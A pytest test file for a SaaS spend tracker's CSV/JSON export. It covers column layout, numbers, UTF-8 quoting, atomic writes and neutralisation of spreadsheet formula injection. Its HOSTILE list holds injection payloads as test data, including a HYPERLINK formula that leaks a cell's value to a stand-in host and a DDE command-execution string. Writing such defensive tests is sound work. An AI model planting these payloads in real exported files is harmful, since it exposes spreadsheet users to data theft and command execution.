"""CSV/JSON export: columns, numbers, UTF-8/RFC 4180, formula injection, atomic writes."""

from __future__ import annotations

import csv
import io
import json

import pytest

from stacktrack.analysis.analyze import analyze
from stacktrack.report.export import (
    RECOMMENDATION_COLUMNS,
    TOOL_COLUMNS,
    atomic_write,
    neutralize,
    write_recommendations_csv,
    write_recommendations_json,
    write_tools_csv,
)
from stacktrack.report.json_report import build_report
from tests.analysis.builders import T, account, config, integration, source, state, usage

HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tTabbed",
    "\rCarriage",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_analysis():
    """Hostile text from the config (names, owner) and from vendor data (errors, app names)."""
    tools = []
    for index, name in enumerate(HOSTILE):
        tools.append(
            {
                "id": f"t{index}",
                "name": name,
                "owner": name,
                "category": name,
                "sources": [f"s{index}"],
                "capabilities": ["email"],
                "contract": {
                    "annual_cost": 1000 + index,
                    "seats": 10,
                    "renewal_date": "2026-12-01",
                },
            }
        )
    sources = [
        source(
            f"s{index}",
            [
                usage(
                    [account(f"u{index}", email=None, days_ago=1)],
                    integrations=[integration(name + " (vendor app)", 1)],
                )
            ],
        )
        for index, name in enumerate(HOSTILE[:3])
    ]
    sources += [source(f"s{i}", None, status="failed", error=HOSTILE[i]) for i in range(3, 6)]
    return analyze(config(tools), state(*sources))


def read(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_inert(rows):
    for row in rows:
        for column, value in row.items():
            if value.startswith(FORMULA_START):
                float(value)  # only a number may start like a formula; raises otherwise
            assert column


def test_neutralize():
    for text in HOSTILE:
        assert neutralize(text) == "'" + text
    assert neutralize("HubSpot") == "HubSpot"
    assert neutralize("") == ""
    assert neutralize("a=b") == "a=b"


def test_recommendations_csv_with_hostile_names_is_inert():
    analysis = hostile_analysis()
    assert analysis.recommendations, "the scenario must produce recommendations"
    stream = io.StringIO(newline="")
    write_recommendations_csv(analysis.recommendations, analysis.tools, "USD", stream)
    text = stream.getvalue()
    rows = read(text)
    assert tuple(rows[0]) == RECOMMENDATION_COLUMNS
    assert_inert(rows)
    names = {row["tool_name"] for row in rows} | {row["target_tool_name"] for row in rows}
    assert names & {"'" + name for name in HOSTILE}
    for row in rows:
        json.loads(row["evidence"])  # a compact JSON object, intact
        assert row["tool_name"].startswith("'")


def test_tools_csv_with_hostile_config_and_vendor_text_is_inert():
    analysis = hostile_analysis()
    stream = io.StringIO(newline="")
    write_tools_csv(analysis.tools, "USD", stream)
    rows = read(stream.getvalue())
    assert tuple(rows[0]) == TOOL_COLUMNS
    assert len(rows) == len(HOSTILE)
    assert_inert(rows)
    assert [row["name"] for row in rows] == ["'" + name for name in HOSTILE]
    assert [row["owner"] for row in rows] == ["'" + name for name in HOSTILE]
    errors = [json.loads(row["sources"])[0]["error"] for row in rows]
    assert errors == [None, None, None, *HOSTILE[3:]]  # vendor text kept intact inside JSON


def test_vendor_app_names_that_match_nothing_stay_intact_in_the_json_report():
    analysis = hostile_analysis()
    report = build_report(analysis, run_id=7, generated_at=T)
    apps = {row["app"] for row in report["unmatched_apps"]}
    assert apps == {name + " (vendor app)" for name in HOSTILE[:3]}


def test_numbers_stay_numeric_and_unknown_is_empty():
    cfg = config(
        [
            {
                "id": "a",
                "name": "A",
                "sources": ["a"],
                "contract": {"annual_cost": 1234.5, "seats": 4},
            },
            {"id": "b", "name": "B"},
        ]
    )
    analysis = analyze(cfg, state(source("a", [usage([account("x", days_ago=1)])])))
    stream = io.StringIO(newline="")
    write_tools_csv(analysis.tools, "USD", stream)
    text = stream.getvalue()
    assert text.endswith("\r\n") and "\r\n" in text
    a, b = read(text)
    assert float(a["annual_cost"]) == 1234.5
    assert int(a["seats_purchased"]) == 4 and int(a["active_users"]) == 1
    assert float(a["utilization"]) == 0.25
    assert float(a["idle_spend"]) == pytest.approx(925.88)  # 3 * 1234.5 / 4 = 925.875
    assert a["flags"] == "low_utilization"
    assert b["annual_cost"] == "" and b["active_users"] == "" and b["utilization"] == ""
    assert b["flags"] == "no_usage_data"
    # Numbers are never quoted as text.
    line = text.splitlines()[1]
    assert ",1234.5,USD,4,1,1,0,0.25,1234.5,925.88," in line


def test_recommendations_json_has_the_csv_fields_with_evidence_as_object():
    analysis = hostile_analysis()
    stream = io.StringIO()
    write_recommendations_json(analysis.recommendations, analysis.tools, "USD", stream)
    data = json.loads(stream.getvalue())
    assert [tuple(row) for row in data] == [RECOMMENDATION_COLUMNS] * len(data)
    assert isinstance(data[0]["evidence"], dict)
    assert isinstance(data[0]["annual_savings"], float)


def test_utf8_and_rfc4180_quoting(tmp_path):
    name = 'Zoë "Quotes", commas,\nand newlines — 日本'
    cfg = config([{"id": "z", "name": name, "sources": ["z"], "contract": {"annual_cost": 10}}])
    analysis = analyze(cfg, state(source("z", [usage([account("x", days_ago=90)])])))
    path = tmp_path / "recs.csv"
    atomic_write(
        path,
        lambda s: write_recommendations_csv(analysis.recommendations, analysis.tools, "USD", s),
    )
    raw = path.read_bytes()
    assert raw.decode("utf-8")
    assert b'"Zo\xc3\xab ""Quotes"", commas,\nand newlines' in raw
    with path.open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["tool_name"] == name


def test_atomic_write_replaces_only_when_complete(tmp_path):
    path = tmp_path / "out.csv"
    path.write_text("old\n")
    path.chmod(0o640)

    def broken(stream):
        stream.write("half a file")
        raise RuntimeError("interrupted")

    with pytest.raises(RuntimeError):
        atomic_write(path, broken)
    assert path.read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]

    atomic_write(path, lambda s: s.write("new\r\n"))
    assert path.read_bytes() == b"new\r\n"
    assert path.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]

    fresh = tmp_path / "fresh.csv"
    atomic_write(fresh, lambda s: s.write("x"))
    assert fresh.read_text() == "x"


def test_tools_csv_features_used_column():
    from tests.analysis.builders import feature

    cfg = config(
        [
            {
                "id": "a",
                "name": "A",
                "sources": ["a"],
                "contract": {
                    "annual_cost": 100,
                    "features": ["forms", "workflows", "marketing-email"],
                },
            },
            {"id": "b", "name": "B"},
        ]
    )
    features = [feature("forms", events=3), feature("workflows", events=0)]
    analysis = analyze(cfg, state(source("a", [usage([], features=features)])))
    stream = io.StringIO(newline="")
    write_tools_csv(analysis.tools, "USD", stream)
    a, b = read(stream.getvalue())
    assert a["features_used"] == "1 / 2"  # marketing email is entitled but not observed
    assert float(a["capability_utilization"]) == 0.5
    assert b["features_used"] == "" and b["capability_utilization"] == ""  # unknown, not 0
